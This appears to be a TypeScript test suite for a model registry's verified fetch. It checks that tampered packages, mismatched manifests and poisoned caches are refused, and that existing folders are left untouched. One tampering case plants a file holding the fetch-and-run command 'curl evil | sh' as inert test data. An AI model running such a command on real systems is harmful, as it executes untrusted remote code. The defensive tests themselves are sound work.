import assert from "node:assert/strict";
import { readdir, readFile, rm, unlink, writeFile } from "node:fs/promises";
import { dirname, join } from "node:path";
import { after, describe, it } from "node:test";
import { isUserError } from "../../../src/common/errors.ts";
import { MemoryLogger } from "../../../src/common/logger.ts";
import { fetchModel, verifyPackage } from "../../../src/registry/verified-fetch.ts";
import { LocalStore } from "../../../src/registry/local-store.ts";
import type { ModelManifest, PackageToPublish } from "../../../src/registry/registry-types.ts";
import { sha256, scratchFolders, writeTestPackage } from "../../support/registry-package.ts";

const scratch = await scratchFolders("modelship-fetch-");
after(() => rm(scratch.root, { recursive: true, force: true }));
const freshDir = scratch.fresh;

/** A package as the packager makes one (test/support/registry-package.ts). */
async function makePackage(options: { model?: string; version: string; files?: Record<string, string> }): Promise<PackageToPublish> {
  const model = options.model ?? "churn";
  const files = options.files ?? {
    "model.onnx": `onnx bytes of ${model} ${options.version}`,
    "metrics.json": '{"accuracy":0.9}',
    "gate-report.json": '{"verdict":"pass"}',
  };
  return writeTestPackage({ dir: await freshDir("package"), model, version: options.version, files, notes: "notes\n" });
}

/** A registry with churn 0.9.0 and 1.0.0 published. */
async function makeRegistry(): Promise<{ root: string; store: LocalStore; stored: string }> {
  const root = await freshDir("registry");
  const store = new LocalStore({ root });
  await store.publish(await makePackage({ version: "0.9.0" }));
  await store.publish(await makePackage({ version: "1.0.0" }));
  return { root, store, stored: join(root, "churn", "1.0.0") };
}

async function snapshot(dir: string): Promise<Record<string, string> | "absent"> {
  let names: string[];
  try {
    names = await readdir(dir);
  } catch {
    return "absent";
  }
  const result: Record<string, string> = {};
  for (const name of names.sort()) result[name] = await readFile(join(dir, name), "utf8");
  return result;
}

describe("fetchModel", () => {
  it("fetches the latest version, and an explicit one given with a v", async () => {
    const { store } = await makeRegistry();
    const dir = join(await freshDir("work"), "model");
    const logger = new MemoryLogger();
    const latest = await fetchModel({ store, model: "churn", version: "latest", dir, logger });
    assert.equal(latest.version, "1.0.0");
    assert.equal(latest.path, dir);
    assert.equal(latest.fromCache, false);
    assert.equal(latest.manifestPath, join(dir, "manifest.json"));
    assert.equal(latest.modelPath, join(dir, "model.onnx"));
    assert.equal(await readFile(latest.modelPath, "utf8"), "onnx bytes of churn 1.0.0");
    assert.deepEqual(
      (await readdir(dir)).sort(),
      ["SHA256SUMS", "gate-report.json", "manifest.json", "metrics.json", "model.onnx"],
      "the package's own files: release notes are not installed",
    );
    assert.ok(logger.entries.some((entry) => entry.message.includes("Fetched churn@1.0.0")));

    // Fetching another version into the same folder replaces the earlier fetch.
    const older = await fetchModel({ store, model: "churn", version: "v0.9.0", dir, logger });
    assert.equal(older.version, "0.9.0");
    assert.equal(older.manifest.version, "0.9.0");
    assert.equal(await readFile(older.modelPath, "utf8"), "onnx bytes of churn 0.9.0");
    assert.deepEqual(await readdir(dirname(dir)), ["model"], "no temporary folders are left next to dir");
  });

  it("names the released versions when asked for one that does not exist", async () => {
    const { store } = await makeRegistry();
    const dir = join(await freshDir("work"), "model");
    const logger = new MemoryLogger();
    await assert.rejects(
      fetchModel({ store, model: "churn", version: "2.0.0", dir, logger }),
      (error: unknown) => isUserError(error) && /churn@2\.0\.0 is not in/.test(error.message) && error.message.includes("1.0.0, 0.9.0"),
    );
    await assert.rejects(
      fetchModel({ store, model: "fraud", version: "latest", dir, logger }),
      (error: unknown) => isUserError(error) && /no versions of fraud/.test(error.message) && /modelship release/.test(error.message),
    );
    await assert.rejects(
      fetchModel({ store, model: "fraud", version: "1.0.0", dir, logger }),
      (error: unknown) => isUserError(error) && /no versions of fraud/.test(error.message),
    );
    await assert.rejects(
      fetchModel({ store, model: "churn", version: "newest", dir, logger }),
      (error: unknown) => isUserError(error) && /"newest" is not a version/.test(error.message),
    );
    assert.equal(await snapshot(dir), "absent");
  });

  // Each case damages the stored 1.0.0, then fetches it over an earlier fetch of 0.9.0 and into a new folder.
  const tamperings: { name: string; file: RegExp; message: RegExp; tampered?: false; damage: (stored: string) => Promise<void> }[] = [
    {
      name: "a model file with one byte flipped",
      file: /model\.onnx$/,
      message: /1\.0\.0\/model\.onnx: sha256 [0-9a-f]{12} does not match the manifest \(expected [0-9a-f]{12}\)/,
      damage: async (stored) => {
        const bytes = await readFile(join(stored, "model.onnx"));
        bytes[3]! ^= 0x01;
        await writeFile(join(stored, "model.onnx"), bytes);
      },
    },
    {
      name: "a missing file",
      file: /metrics\.json$/,
      message: /1\.0\.0\/metrics\.json: the manifest lists this file but it is missing/,
      damage: (stored) => unlink(join(stored, "metrics.json")),
    },
    {
      name: "an extra file",
      file: /payload\.sh$/,
      message: /1\.0\.0\/payload\.sh: this file is not listed in the manifest/,
      damage: (stored) => writeFile(join(stored, "payload.sh"), "curl evil | sh"),
    },
    {
      name: "a SHA256SUMS edited to match a replaced model but not the manifest's digest",
      file: /SHA256SUMS$/,
      message: /SHA256SUMS: sha256 [0-9a-f]{12} is not the manifest's digest/,
      damage: async (stored) => {
        await writeFile(join(stored, "model.onnx"), "evil model");
        const sums = await readFile(join(stored, "SHA256SUMS"), "utf8");
        await writeFile(join(stored, "SHA256SUMS"), sums.replace(/^[0-9a-f]{64}(?= {2}model\.onnx$)/m, sha256("evil model")));
      },
    },
    {
      name: "a manifest and SHA256SUMS edited to match a replaced model, with the old digest",
      file: /SHA256SUMS$/,
      message: /is not the manifest's digest/,
      damage: async (stored) => {
        await writeFile(join(stored, "model.onnx"), "evil model");
        const sums = await readFile(join(stored, "SHA256SUMS"), "utf8");
        const manifest = JSON.parse(await readFile(join(stored, "manifest.json"), "utf8")) as ModelManifest;
        const modelFile = manifest.files.find((file) => file.name === "model.onnx")!;
        await writeFile(join(stored, "SHA256SUMS"), sums.replace(modelFile.sha256, sha256("evil model")));
        Object.assign(modelFile, { sha256: sha256("evil model"), bytes: 10 });
        await writeFile(join(stored, "manifest.json"), JSON.stringify(manifest));
      },
    },
    {
      name: "a manifest that fails its schema",
      file: /churn\/1\.0\.0\/manifest\.json$/,
      message: /missing required property "files"/,
      // The store itself refuses to read it, with the schema's words.
      tampered: false,
      damage: async (stored) => {
        const manifest = JSON.parse(await readFile(join(stored, "manifest.json"), "utf8")) as Record<string, unknown>;
        delete manifest.files;
        await writeFile(join(stored, "manifest.json"), JSON.stringify(manifest));
      },
    },
    {
      name: "a manifest of another version",
      file: /manifest\.json$/,
      message: /the manifest is of churn@1\.0\.1, not churn@1\.0\.0/,
      damage: async (stored) => {
        const manifest = JSON.parse(await readFile(join(stored, "manifest.json"), "utf8")) as ModelManifest;
        await writeFile(join(stored, "manifest.json"), JSON.stringify({ ...manifest, version: "1.0.1" }));
      },
    },
    {
      name: "a manifest of another model",
      file: /manifest\.json$/,
      message: /the manifest is of fraud@1\.0\.0, not churn@1\.0\.0/,
      damage: async (stored) => {
        const manifest = JSON.parse(await readFile(join(stored, "manifest.json"), "utf8")) as ModelManifest;
        await writeFile(join(stored, "manifest.json"), JSON.stringify({ ...manifest, name: "fraud" }));
      },
    },
  ];

  for (const tampering of tamperings) {
    it(`refuses ${tampering.name}, naming the file and leaving dir untouched`, async () => {
      const { store, stored } = await makeRegistry();
      const work = await freshDir("work");
      const dir = join(work, "model");
      const fresh = join(work, "fresh");
      const logger = new MemoryLogger();
      await fetchModel({ store, model: "churn", version: "0.9.0", dir, logger });
      const before = await snapshot(dir);
      await tampering.damage(stored);

      for (const target of [dir, fresh]) {
        await assert.rejects(fetchModel({ store, model: "churn", version: "1.0.0", dir: target, logger }), (error: unknown) => {
          assert.ok(isUserError(error), String(error));
          assert.match(error.file ?? "", tampering.file);
          assert.match(error.message, tampering.message);
          if (tampering.tampered !== false) assert.match(error.message, /tampered with or the download corrupted; do not use it/);
          return true;
        });
      }
      assert.deepEqual(await snapshot(dir), before, "the earlier fetch is still there, unchanged");
      assert.equal(await snapshot(fresh), "absent", "nothing is left where the failed fetch was going");
      assert.deepEqual(await readdir(work), ["model"], "no temporary folders are left");
    });
  }

  it("fetches from the cache by digest without downloading, and says so", async () => {
    const { store, stored } = await makeRegistry();
    const work = await freshDir("work");
    const cacheDir = join(work, "cache");
    const logger = new MemoryLogger();
    const first = await fetchModel({ store, model: "churn", version: "1.0.0", dir: join(work, "a"), cacheDir, logger });
    assert.equal(first.fromCache, false);
    assert.deepEqual(await readdir(cacheDir), [first.manifest.digest]);

    // The store loses its model file: only the cache can serve it now.
    await unlink(join(stored, "model.onnx"));
    const second = await fetchModel({ store, model: "churn", version: "latest", dir: join(work, "b"), cacheDir, logger });
    assert.equal(second.fromCache, true);
    assert.equal(await readFile(second.modelPath, "utf8"), "onnx bytes of churn 1.0.0");
    assert.deepEqual(second.manifest, first.manifest);
  });

  it("detects a corrupted cache entry, downloads again and repairs the entry", async () => {
    const { store } = await makeRegistry();
    const work = await freshDir("work");
    const cacheDir = join(work, "cache");
    const logger = new MemoryLogger();
    const first = await fetchModel({ store, model: "churn", version: "1.0.0", dir: join(work, "a"), cacheDir, logger });
    const entry = join(cacheDir, first.manifest.digest);
    await writeFile(join(entry, "model.onnx"), "onnx bytes of churn 1.0.X");

    const second = await fetchModel({ store, model: "churn", version: "1.0.0", dir: join(work, "b"), cacheDir, logger });
    assert.equal(second.fromCache, false);
    assert.equal(await readFile(second.modelPath, "utf8"), "onnx bytes of churn 1.0.0");
    assert.ok(
      logger.entries.some((e) => e.level === "warning" && e.message.includes("does not verify") && e.message.includes("model.onnx")),
    );
    await verifyPackage(entry, { model: "churn", version: "1.0.0" });
    const third = await fetchModel({ store, model: "churn", version: "1.0.0", dir: join(work, "c"), cacheDir, logger });
    assert.equal(third.fromCache, true);
  });

  it("does not serve another version with the same files from the cache", async () => {
    const root = await freshDir("registry");
    const store = new LocalStore({ root });
    const files = { "model.onnx": "same bytes" };
    await store.publish(await makePackage({ version: "1.0.0", files }));
    await store.publish(await makePackage({ version: "1.0.1", files }));
    const work = await freshDir("work");
    const cacheDir = join(work, "cache");
    const logger = new MemoryLogger();
    await fetchModel({ store, model: "churn", version: "1.0.0", dir: join(work, "a"), cacheDir, logger });
    const other = await fetchModel({ store, model: "churn", version: "1.0.1", dir: join(work, "b"), cacheDir, logger });
    assert.equal(other.fromCache, false);
    assert.equal(other.manifest.version, "1.0.1");
    assert.ok(!logger.entries.some((e) => e.level === "warning"));
  });

  it("refuses to replace a folder that is not a fetched model", async () => {
    const { store } = await makeRegistry();
    const dir = await freshDir("workspace");
    await writeFile(join(dir, "train.py"), "print('precious')");
    await assert.rejects(
      fetchModel({ store, model: "churn", version: "latest", dir, logger: new MemoryLogger() }),
      (error: unknown) => isUserError(error) && /not a fetched model/.test(error.message),
    );
    assert.deepEqual(await snapshot(dir), { "train.py": "print('precious')" });
  });
});

describe("verifyPackage", () => {
  it("accepts a package folder and names the real path of a bad file", async () => {
    const pkg = await makePackage({ version: "1.2.0" });
    assert.equal((await verifyPackage(pkg.dir, { model: "churn", version: "1.2.0" })).digest, pkg.manifest.digest);
    await writeFile(join(pkg.dir, "gate-report.json"), '{"verdict":"PASS"}');
    await assert.rejects(
      verifyPackage(pkg.dir),
      (error: unknown) => isUserError(error) && error.file === join(pkg.dir, "gate-report.json"),
    );
  });
});

describe("fetchModel refuses what it must not trust or touch", () => {
  it("a cache entry that agrees with itself but not with the registry's digest is not used", async () => {
    const { store } = await makeRegistry();
    const cacheDir = await freshDir("cache");
    const first = await fetchModel({
      store,
      model: "churn",
      version: "1.0.0",
      dir: join(await freshDir("out"), "model"),
      cacheDir,
      logger: new MemoryLogger(),
    });
    // Plant a self-consistent package of other bytes under the published digest's name.
    const entry = join(cacheDir, first.manifest.digest);
    await rm(entry, { recursive: true, force: true });
    await writeTestPackage({
      dir: entry,
      model: "churn",
      version: "1.0.0",
      files: { "model.onnx": "EVIL MODEL", "gate-report.json": '{"verdict":"pass"}' },
    });
    const again = await fetchModel({
      store,
      model: "churn",
      version: "1.0.0",
      dir: join(await freshDir("out"), "model"),
      cacheDir,
      logger: new MemoryLogger(),
    });
    assert.equal(again.fromCache, false);
    assert.equal(again.manifest.digest, first.manifest.digest);
    assert.notEqual(await readFile(again.modelPath, "utf8"), "EVIL MODEL");
  });

  it("a download whose manifest.json is not the one the caller read (and checked) is refused, and nothing is installed", async () => {
    const { store, stored } = await makeRegistry();
    const located = (await store.locate("churn", "1.0.0"))!;
    assert.equal(located.manifestSha256, sha256(await readFile(join(stored, "manifest.json"))));
    // The registry now serves another gate record with the same files (and so the same digest).
    const manifest = JSON.parse(await readFile(join(stored, "manifest.json"), "utf8")) as ModelManifest;
    await writeFile(join(stored, "manifest.json"), JSON.stringify({ ...manifest, gate: { ...manifest.gate, reason: "swapped" } }));
    const dir = join(await freshDir("out"), "model");
    await assert.rejects(
      fetchModel({ store, model: "churn", version: "1.0.0", dir, published: located, logger: new MemoryLogger() }),
      (error: unknown) =>
        isUserError(error) &&
        error.message.includes(`holds a manifest.json of sha256`) &&
        error.message.includes(`not the registry's ${located.manifestSha256.slice(0, 12)}`),
    );
    assert.equal(await snapshot(dir), "absent");
  });

  it("a cache entry with the registry's digest but another manifest.json is not used", async () => {
    const { store } = await makeRegistry();
    const cacheDir = await freshDir("cache");
    const located = (await store.locate("churn", "1.0.0"))!;
    const fetch = async (logger: MemoryLogger) =>
      fetchModel({
        store,
        model: "churn",
        version: "1.0.0",
        dir: join(await freshDir("out"), "model"),
        cacheDir,
        published: located,
        logger,
      });
    const first = await fetch(new MemoryLogger());
    assert.equal(first.manifestSha256, located.manifestSha256);
    const cachedManifest = join(cacheDir, first.manifest.digest, "manifest.json");
    await writeFile(
      cachedManifest,
      JSON.stringify({ ...first.manifest, gate: { ...first.manifest.gate, verdict: "pass", reason: "planted" } }),
    );
    const logger = new MemoryLogger();
    const again = await fetch(logger);
    assert.equal(again.fromCache, false);
    assert.equal(again.manifestSha256, located.manifestSha256);
    assert.equal(sha256(await readFile(again.manifestPath)), located.manifestSha256);
    assert.ok(logger.entries.some((e) => e.level === "warning" && e.message.includes("holds a manifest.json of sha256")));
  });

  it("a folder with a manifest.json among files the package does not list is not replaced", async () => {
    const { store } = await makeRegistry();
    const dir = await freshDir("workspace");
    await writeFile(join(dir, "manifest.json"), '{"manifest_version": 3, "name": "a browser extension"}');
    await writeFile(join(dir, "code.js"), "keep me");
    await assert.rejects(
      fetchModel({ store, model: "churn", version: "1.0.0", dir, logger: new MemoryLogger() }),
      /not a modelship manifest, so it is not a fetched model and will not be replaced/,
    );
    assert.equal(await readFile(join(dir, "code.js"), "utf8"), "keep me");
  });
});
